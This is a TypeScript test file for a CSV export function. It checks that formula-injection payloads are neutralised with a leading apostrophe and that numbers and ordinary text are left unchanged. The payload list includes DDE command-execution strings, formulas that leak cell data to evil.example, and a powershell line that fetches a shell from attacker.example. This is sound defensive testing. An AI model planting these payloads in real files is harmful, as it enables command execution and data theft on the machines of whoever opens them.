import {describe, expect, it} from "vitest";
import {toCsv} from "../../src/io/csv.ts";

describe("toCsv", () => {
  it("starts with a BOM, ends lines with CRLF, and quotes what needs it", () => {
    const csv = toCsv(
      ["name", "value", "note"],
      [
        {name: "行政许可", value: 155, note: null},
        {name: '含"引号"', value: 1.5, note: "甲,乙\n丙"},
      ],
    );
    expect(csv).toBe('\ufeffname,value,note\r\n行政许可,155,\r\n"含""引号""",1.5,"甲,乙\n丙"\r\n');
  });
});

/** The cells of a one-column CSV with a header `x`, as a spreadsheet splits them (quotes removed). */
function cellOf(value: unknown): string {
  const csv = toCsv(["x"], [{x: value}]);
  const body = csv.slice("\ufeffx\r\n".length, -2);
  return body.startsWith('"') ? body.slice(1, -1).replace(/""/g, '"') : body;
}

/** A spreadsheet would evaluate the cell: it starts with a formula character, after any whitespace it trims. */
const evaluated = (cell: string) => /^[\s\u3000]*[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(cell) || /^[\t\r]/.test(cell);

describe("formula injection", () => {
  // OWASP's CSV Injection payloads (https://owasp.org/www-community/attacks/CSV_Injection) and their usual variants.
  const OWASP = [
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!'A0'",
    "+2+5+cmd|' /C calc'!A0",
    "=1+2+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1&A2, "Error: please click here")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
    '=IMPORTRANGE("https://docs.google.com/spreadsheets/d/x", "sheet!A1:Z9")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "=10+20+cmd|' /C calc'!A0",
    '=cmd|"/C powershell IEX(wget attacker.example/shell.exe)"!A0',
    "@cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u3000=1+1",
    "=1+1",
    "＝1+1",
    "＋1+1",
    "－2+3",
    "＠SUM(1,2)",
    "-1e3+cmd|' /C calc'!A0",
    "-5 ",
  ];

  it.each(OWASP)("neutralises %j with a leading apostrophe, quoting as needed", (payload) => {
    const cell = cellOf(payload);
    expect(cell.startsWith("'")).toBe(true);
    expect(cell.slice(1)).toBe(payload);
    expect(evaluated(cell)).toBe(false);
  });

  it.each(["-5", "-3.2", "-0.5", "-.5", "1e3", "-1.5e-3", "0", "155", -5, -3.2, 1e21, -1e-7])(
    "keeps the number %j as it is",
    (value) => {
      expect(cellOf(value)).toBe(String(value));
    },
  );

  it("leaves ordinary text alone, including a dash or @ inside it", () => {
    for (const text of ["行政许可", "2024-01-01", "a-b", "x@example.gov.cn", "“=”号", "（-）"]) {
      expect(cellOf(text)).toBe(text);
    }
  });
});
